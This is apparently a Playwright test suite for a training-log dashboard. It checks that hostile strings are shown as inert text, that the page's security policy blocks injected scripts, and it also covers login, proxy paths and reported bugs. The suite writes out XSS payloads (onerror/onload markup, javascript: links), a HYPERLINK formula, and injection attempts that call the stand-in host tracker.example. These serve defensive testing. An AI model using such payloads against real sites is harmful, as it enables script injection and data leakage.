"""What stands in logs, names and addresses stays text; the login; the page under its policy and behind a proxy."""

from __future__ import annotations

import json
import pprint
import random
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from app.__main__ import main
from components.style import run_key
from data_loaders.annotations import FILE, annotate
from tests.browser.conftest import DESK, PHONE, OpenPage
from tests.browser.gestures import drag, settled
from tests.browser.reverse_proxy import proxied
from tests.growing import append, line, log_path, text, write
from tests.serving import ROOT, Served, serving

pytestmark = pytest.mark.browser

EVIL = "\"'><img src=x onerror=window.ran=1><svg onload=window.ran=1>"
FORMULA = '=HYPERLINK("http://tracker.example","x")'
LINK = "javascript:window.ran=1"
RAN = """() => [
  ...(window.ran === undefined ? [] : ['a script ran']),
  ...[...document.querySelectorAll('img, iframe, object, embed, base, script[src*="tracker"]')].map((el) => el.outerHTML),
  ...[...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((at) => /^on/i.test(at.name)
    || (/^(href|src|action|formaction|xlink:href)$/i.test(at.name) && /^\\s*javascript:/i.test(at.value)))
    .map((at) => `${el.tagName} ${at.name}=${at.value}`)),
]"""
STEPS, PEAK = 90, 60


def evil_board(root: Path) -> None:
    """Two runs; whatever a log, a name, a file beside it or board.toml can say is markup."""
    for nth, name in enumerate((f"e1_{EVIL}_2b", f"{FORMULA}_2b".replace("/", "")), 1):
        path = log_path(root, name)
        samples = path.parent / "rollouts"
        samples.mkdir()
        config = {
            "algorithm": {"adv_estimator": EVIL},
            "trainer": {"experiment_name": EVIL, "project_name": EVIL, "rollout_data_dir": str(samples)},
            "actor_rollout_ref": {
                "model": {"path": EVIL},
                f"key {EVIL}": EVIL,
                "actor": {"loss_agg_mode": EVIL},
            },
        }
        write(path, pprint.pformat(config) + "\n" + evil_log(nth) + f"Traceback {EVIL}\nValueError: {EVIL}\n")
        answer = {"input": EVIL, "output": f"{EVIL}\n[x]({LINK})", "score": 1.0, EVIL: EVIL}
        for step in range(PEAK - 3, PEAK + 4):
            write(samples / f"{step}.jsonl", json.dumps(answer) + "\n")
    told = json.dumps(EVIL)
    notes = json.dumps(
        f"{EVIL} [go]({LINK}) ![p](https://tracker.example/p.png) <script>window.ran=1</script>"
    )
    (root / "board.toml").write_text(
        f"title = {told}\nhardware = {told}\n{told} = 1\n[tracks.2b]\ntitle = {told}\nnotes = {notes}\n"
        f"hardware = {told}\nmodel = {told}\nvalidation_items = {{ {told} = 3 }}\n"
        f"[experiments.{json.dumps(f'e1_{EVIL}_2b')}]\nlabel = {told}\ntitle = {told}\nnotes = {notes}\n"
        f"algorithm = {told}\n[colours]\n{told} = 9\n",
        encoding="utf-8",
    )
    (root / f"not a log {EVIL}.log").write_text(EVIL)
    annotate(root / FILE, f"e1_{EVIL}_2b", 30, 40, f"{EVIL} [x]({LINK})")


def evil_log(seed: int) -> str:
    """Steps with one spike, a key that is markup, and lines between them that are."""
    chance, lines = random.Random(seed), []
    for step in range(1, STEPS + 1):
        high = 12.0 if abs(step - PEAK) <= 2 else 0.0
        cells = {
            "actor/entropy": 0.5 + high / 10 + chance.gauss(0, 0.01),
            "actor/grad_norm": 0.3 + high + chance.gauss(0, 0.01),
            "actor/ppo_kl": 0.001 + high / 100 + chance.gauss(0, 1e-5),
            "response_length/mean": 900 + 100 * high + chance.gauss(0, 10),
            "critic/score/mean": 0.4 - high / 40 + chance.gauss(0, 0.005),
            f"val-core/{EVIL}/reward/mean@1": 0.5,
            f"evil/{EVIL}": 1.0,
            FORMULA: 2.0,
        }
        lines.append(f"{EVIL} (step {step}) {LINK}\n")
        lines.append(
            " - ".join([f"step:{step}", *(f"{key}:{value:.6f}" for key, value in cells.items())]) + "\n"
        )
    return "".join(lines)


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root, cache = tmp_path_factory.mktemp("evil"), tmp_path_factory.mktemp("cache")
    evil_board(root)
    assert main(["episodes", "--logs", str(root), "--cache-dir", str(cache)]) == 0
    with serving(["--logs", str(root)], cache) as served:
        yield served


def unharmed(page: Page) -> None:
    """Nothing ran, and no element stands there that no page of ours has."""
    page.wait_for_function("() => window.rlboard && rlboard.ready && rlboard.payload()")
    assert page.evaluate(RAN) == []


class TestText:
    """Every string from outside, wherever it is shown, in both languages. The console of each page is watched."""

    @pytest.mark.parametrize("lang", ["zh", "en"])
    @pytest.mark.parametrize("tab", ["overview", "algorithms", "2b"])
    def test_on_the_pages(self, evil: Served, open_page: OpenPage, tab: str, lang: str) -> None:
        page = open_page(f"{evil.url}?tab={tab}&lang={lang}")
        unharmed(page)
        if tab != "algorithms":
            expect(page.locator("#page")).to_contain_text("onerror")
        if tab == "2b":
            assert page.evaluate("() => JSON.stringify(rlboard.payload())").count("[x](javascript:") == 1
        page.locator("[data-act=report]").last.click()
        expect(page.locator("dialog#report table")).to_contain_text("not a log")
        unharmed(page)

    @pytest.mark.parametrize("part", ["config", "differences", "metrics", "raw"])
    def test_in_the_drawer(self, evil: Served, open_page: OpenPage, part: str) -> None:
        page = open_page(f"{evil.url}?tab=2b&lang=en&steps={PEAK}-{PEAK + 2}")
        settled(page)
        key = run_key(f"e1_{EVIL}_2b")
        page.evaluate("(value) => { const el = document.createElement('button'); el.dataset.act = 'detail';"
                      " el.dataset.value = value; document.body.append(el); el.click(); el.remove(); }",
                      f"{part}:{key}")  # fmt: skip
        shown = page.locator(f'#detail [data-part="{part}"]')
        expect(shown).to_be_visible()
        expect(page.locator("#detail")).to_contain_text("onerror")
        unharmed(page)

    def test_in_an_episode_with_its_lines_and_samples(self, evil: Served, open_page: OpenPage) -> None:
        page = open_page(f"{evil.url}?tab=2b&lang=en")
        settled(page)
        found = page.evaluate("() => rlboard.payload().episodes.map((episode) => episode.id)")
        assert found, "the spike is an episode"
        page.evaluate("(id) => rlboard.set({ ep: id })", found[0])
        panel = page.locator("aside.epi-p")
        expect(panel).to_be_visible()
        panel.locator("details").evaluate_all("(all) => all.forEach((one) => { one.open = true; })")
        expect(panel.locator(".raw").filter(has_text="onerror").first).to_be_visible()
        unharmed(page)

    def test_in_charts_of_a_metric_that_is_markup(self, evil: Served, open_page: OpenPage) -> None:
        page = open_page(f"{evil.url}?tab=2b&pin={quote(f'evil/{EVIL}')}")
        settled(page)
        chart = page.locator('figure[data-chart*="cmp-pin-"]').first
        chart.scroll_into_view_if_needed()
        expect(chart.locator(".js-plotly-plot")).to_be_visible()
        box = chart.locator(".nsewdrag").first.bounding_box()
        assert box is not None
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        page.wait_for_timeout(300)
        unharmed(page)

    def test_in_every_part_of_the_address(self, evil: Served, open_page: OpenPage) -> None:
        keys = (*KEYS, "other")
        for value in (
            EVIL,
            LINK,
            "<script>window.ran=1</script>",
            "{{7*7}}",
            "\0",
            "%",
            "__proto__",
            "constructor",
        ):
            page = open_page(
                f"{evil.url}?" + "&".join(f"{key}={quote(value)}" for key in keys) + f"#{quote(value)}"
            )
            unharmed(page)
            page.close()


KEYS = re.findall(r"^    (\w+): \[", (ROOT / "assets" / "rl-12-url.js").read_text(encoding="utf-8"), re.MULTILINE)
"""What a link can say."""

BROKEN = """(queries) => queries.map((query) => {
  try {
    const { patch } = rlboard.readQuery(query);
    const written = rlboard.writeQuery(Object.assign({}, rlboard.defaults, patch), query);
    const again = rlboard.readQuery(written).patch;
    for (const key of Object.keys(again)) if (!(key in rlboard.defaults)) return 'a key of its own: ' + key;
    return written.length <= Math.max(2000, query.length * 9) ? '' : 'long: ' + written.length;
  } catch (error) { return String(error); }
})"""


def broken_queries(count: int) -> list[str]:
    """Queries as people and programs garble them."""
    chance = random.Random(7)
    keys = [*KEYS, "", "__proto__"]
    signs = "abz09-–,:%&=#?+/\\<>\"'\0\n \u202e\ud800é中😀_.;"
    right = [
        "2b",
        "E1,E3",
        "133-140",
        "e3_drgrpo_2b:133",
        "all",
        "raw",
        "tokens",
        "logged",
        "first",
        "log",
        "en",
        "dark",
    ]

    def value() -> str:
        if chance.random() < 0.4:
            return chance.choice(right)
        return "".join(chance.choice(signs) for _ in range(chance.choice([0, 1, 3, 20, 400])))

    return [
        "&".join(f"{chance.choice(keys)}={value()}" for _ in range(chance.randint(0, 14)))
        + chance.choice(["", "%", "%zz", "&&"])
        for _ in range(count)
    ]


def test_no_broken_address_breaks_the_page(sketch: object, open_page: OpenPage, harness: str) -> None:
    page = open_page(f"{harness}?tab=2b")
    settled(page)
    queries = broken_queries(5000)
    answers = page.evaluate(BROKEN, queries)
    assert [(query, answer) for query, answer in zip(queries, answers, strict=True) if answer] == []


class TestPolicy:
    @pytest.fixture
    def page(self, chromium: Browser, board: Served) -> Iterator[Page]:
        context = chromium.new_context(viewport=DESK)
        page = context.new_page()
        page.goto(f"{board.url}?tab=2b")
        settled(page)
        yield page
        context.close()

    @pytest.mark.parametrize(
        "attempt",
        [
            "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
            "const s = document.createElement('script'); s.src = 'https://tracker.example/x.js'; document.body.append(s)",
            "const d = document.createElement('div'); d.innerHTML = '<img src=data:, onerror=window.ran=1>'; document.body.append(d)",
            "try { eval('window.ran = 1') } catch {}",
            "fetch('https://tracker.example/').then(() => { window.ran = 1 }, () => {})",
            "new Image().src = 'https://tracker.example/p.png'",
            "const f = document.createElement('iframe'); f.src = 'https://tracker.example/'; document.body.append(f)",
            "const b = document.createElement('base'); b.href = 'https://tracker.example/'; document.head.append(b)",
            "const f = document.createElement('form'); f.action = 'https://tracker.example/'; document.body.append(f); f.submit()",
        ],
    )  # fmt: skip
    def test_what_got_in_would_run_and_send_nothing(self, page: Page, attempt: str) -> None:
        page.evaluate(
            "document.addEventListener('securitypolicyviolation', (e) => { window.stopped = e.effectiveDirective; })"
        )
        asked: list[str] = []
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.evaluate(f"() => {{ setTimeout(() => {{ {attempt} }}); }}")  # as the page, not as the debugger
        page.wait_for_function("() => window.stopped")
        assert not page.evaluate("() => window.ran")
        assert not [url for url in asked if "tracker.example" in url]

    def test_it_cannot_be_framed(self, chromium: Browser, board: Served, tmp_path: Path) -> None:
        (tmp_path / "frame.html").write_text(f'<iframe src="{board.url}"></iframe>')
        context = chromium.new_context()
        page = context.new_page()
        page.goto((tmp_path / "frame.html").as_uri())
        frame = page.frames[1]
        assert frame.locator("#page").count() == 0
        context.close()


PASSWORD = "correct horse 中文"


@pytest.fixture
def locked(tmp_path: Path) -> Iterator[Served]:
    write(log_path(tmp_path / "logs"), text(1, 8))
    word = tmp_path / "word"
    word.write_text(PASSWORD + "\n", encoding="utf-8")
    cache = tmp_path / "cache"
    cache.mkdir()
    with serving(["--logs", str(tmp_path / "logs"), "--password-file", str(word)], cache) as served:
        yield served


class TestLogin:
    @pytest.mark.parametrize(
        ("locale", "title", "label"),
        [
            ("zh-CN", "登录看板", "密码或令牌"),
            ("en-US", "Sign in to the board", "Password or token"),
        ],
    )
    def test_form(self, chromium: Browser, locked: Served, locale: str, title: str, label: str) -> None:
        context = chromium.new_context(viewport=PHONE, locale=locale)
        page = context.new_page()
        asked: list[str] = []
        said: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.goto(f"{locked.url}?tab=2b&steps=2-5")
        expect(page.get_by_role("heading", name=title)).to_be_visible()
        assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
        assert {urlsplit(url).netloc for url in asked if url.startswith("http")} == {
            urlsplit(locked.url).netloc
        }
        assert len([url for url in asked if url.startswith("http")]) == 1  # the page itself
        assert not [line for line in said if "401" not in line]
        field = page.get_by_label(label)
        expect(field).to_be_focused()
        field.fill("wrong")
        page.keyboard.press("Enter")
        expect(page.get_by_role("alert")).to_be_visible()
        page.get_by_label(label).fill(PASSWORD)
        page.keyboard.press("Enter")
        settled(page)
        assert page.evaluate("() => rlboard.state.range") == [2, 5]
        assert "token" not in page.url
        [cookie] = context.cookies()
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
        assert page.evaluate("() => document.cookie") == ""
        context.close()

    def test_one_click_and_background_readings(self, open_page: OpenPage, locked: Served) -> None:
        """Nothing was read before: the page asks for a reading, polls, and shows it."""
        page = open_page(f"{locked.url}?tab=2b&token={quote(PASSWORD)}")
        settled(page)
        assert "token" not in page.url
        assert page.evaluate("() => Object.values(rlboard.payload().runs)[0].last") == 8


# ---- behind a proxy ----


@pytest.fixture
def behind(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """Address of a board under /app/ of a proxy, and the log it reads."""
    log = write(log_path(tmp_path / "logs"), text(1, 40))
    cache = tmp_path / "cache"
    cache.mkdir()
    with (
        serving(["--logs", str(tmp_path / "logs"), "--base-path", "/app/"], cache) as served,
        proxied(served.url, "/app/") as url,
    ):
        yield url, log


def test_everything_stays_under_the_path_of_a_proxy_c85(
    behind: tuple[str, Path], open_page: OpenPage, chromium: Browser
) -> None:
    """Layout, scripts, callbacks, background reading, appended step and download (plotly/dash#1665)."""
    url, log = behind
    page = open_page(f"{url}?tab=2b")
    asked: list[str] = []
    failed: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("response", lambda answer: failed.append(answer.url) if answer.status >= 400 else None)
    page.reload()
    settled(page)
    append(log, line(41))
    page.wait_for_function("() => Object.values(rlboard.payload().runs)[0]?.last === 41")
    with page.expect_download() as saved:
        page.locator('[data-act="csv"]:visible').first.click()
    assert "actor/entropy" in saved.value.path().read_text(
        "utf-8-sig"
    ) or "entropy" in saved.value.path().read_text("utf-8-sig")
    assert not failed
    paths = {urlsplit(each).path for each in asked if each.startswith("http")}
    assert all(path.startswith("/app/") for path in paths)
    kinds = (
        "/app/_dash-component-suites/",
        "/app/static-files/",
        "/app/_dash-update-component",
        "/app/_dash-layout",
    )
    assert all(any(path.startswith(kind) for path in paths) for kind in kinds)


# ---- reported cases ----


def test_a_zoom_after_a_patch_still_moves_everything_c73(tmp_path: Path, open_page: OpenPage) -> None:
    """New data on a zoomed page, then zoom again, over and over (plotly/dash#3810)."""
    logs = [write(log_path(tmp_path / "logs", f"e{n}_grpo_2b"), text(1, 60, seed=n)) for n in (1, 2)]
    cache = tmp_path / "cache"
    cache.mkdir()
    assert main(["episodes", "--logs", str(tmp_path / "logs"), "--cache-dir", str(cache)]) == 0
    with serving(["--logs", str(tmp_path / "logs")], cache) as served:
        page = open_page(f"{served.url}?tab=2b")
        settled(page)
        for turn in range(3):
            drag(page, "cmp-entropy", 0.2, 0.8)
            page.mouse.up()
            page.wait_for_function("() => rlboard.state.range !== null")
            settled(page)
            zoomed = page.evaluate("() => rlboard.state.range")
            last = 61 + turn
            for nth, log in enumerate(logs, 1):
                append(log, line(last, seed=nth))
            page.wait_for_function(
                f"() => Object.values(rlboard.payload().runs).every((run) => run.last === {last})"
            )
            settled(page)
            assert page.evaluate("() => rlboard.state.range") == zoomed
            drag(page, "cmp-grad_norm", 0.3, 0.7)
            page.mouse.up()
            page.wait_for_function(
                "(was) => JSON.stringify(rlboard.state.range) !== JSON.stringify(was)", arg=zoomed
            )
            settled(page)
            first, end = page.evaluate("() => rlboard.state.range")
            assert zoomed[0] < first < end < zoomed[1]
            ranges = page.evaluate(
                "() => rlboard.records().filter((r) => r.mounted && (r.chart.meta.kind || 'steps') === 'steps' && !r.dirty)"
                ".map((r) => r.plot._fullLayout.xaxis.range.map(Number))"
            )
            assert len(ranges) >= 3
            assert all(each == pytest.approx(ranges[0]) for each in ranges)
            assert ranges[0] == pytest.approx([first, end], abs=1.0)
            page.keyboard.press("r")
            page.wait_for_function("() => rlboard.state.range === null")


HELD = "() => document.querySelectorAll('*').length"


def test_switching_tabs_keeps_nothing_c83(tmp_path: Path, chromium: Browser) -> None:
    """50,000 points, 30 switches: memory and elements of the page stay (plotly/dash#2882)."""
    for nth in range(10):
        track = "2b" if nth % 2 else "4b"
        write(log_path(tmp_path / "logs", f"e{nth}_grpo_{track}"), text(1, 1000, seed=nth))
    cache = tmp_path / "cache"
    cache.mkdir()
    assert main(["episodes", "--logs", str(tmp_path / "logs"), "--cache-dir", str(cache)]) == 0
    with serving(["--logs", str(tmp_path / "logs")], cache) as served:
        context = chromium.new_context(viewport=DESK)
        page = context.new_page()
        page.goto(f"{served.url}?tab=2b")
        session = context.new_cdp_session(page)

        def held() -> tuple[float, float]:
            """Bytes and elements that are alive after a collection."""
            session.send("HeapProfiler.collectGarbage")
            session.send("HeapProfiler.collectGarbage")
            told = {one["name"]: one["value"] for one in session.send("Performance.getMetrics")["metrics"]}
            return told["JSHeapUsedSize"], told["Nodes"]

        def turn(times: int) -> None:
            for _ in range(times):
                for tab in ("4b", "2b"):
                    page.evaluate("(tab) => rlboard.set({ tab })", tab)
                    page.wait_for_function("(tab) => rlboard.payload().tab === tab", arg=tab)
                    settled(page)

        session.send("Performance.enable")
        settled(page)
        turn(3)
        bytes_before, nodes_before = held()
        turn(15)
        bytes_after, nodes_after = held()
        context.close()
    assert bytes_after < 1.15 * bytes_before
    assert nodes_after < 1.15 * nodes_before


def test_a_link_of_very_many_choices_stays_short_c87(board: Served, open_page: OpenPage) -> None:
    """200 settings differ, 400 metrics are pinned, every run is named (mlflow/mlflow#8256)."""
    page = open_page(f"{board.url}?tab=2b")
    settled(page)
    page.evaluate(
        """() => rlboard.set({
          pin: Array.from({length: 400}, (_, n) => `actor/some_metric_with_a_long_name_${n}/mean`),
          exp: Array.from({length: 200}, (_, n) => `experiment_with_setting_${n}_大模型`), range: [10, 90], smooth: 'raw' })"""
    )
    page.wait_for_function("() => location.search.includes('steps=10-90')")
    address = page.url
    assert len(address) < 2000
    expect(page.locator("#rl-notices")).not_to_be_empty()  # it says that the link does not hold everything
    assert "smooth=raw" in address
    again = open_page(address)
    settled(again)
    assert again.evaluate("() => rlboard.state.range") == [10, 90]
    longest = page.evaluate(
        """() => Math.max(...Array.from({length: 120}, (_, n) => {
          rlboard.set({ exp: null, pin: Array.from({length: n}, (_, k) => `actor/metric_${k}/mean`) });
          return location.href.length;
        }))"""
    )
    assert 1900 < longest < 2000  # as much as fits, address and all
    few = page.evaluate(
        """() => { rlboard.set({ pin: ['actor/lr', 'a,b%c'], exp: ['E1', 'E3'] });
          return rlboard.writeQuery(rlboard.state); }"""
    )
    assert "pin=" in few
    assert "exp=E1,E3" in few
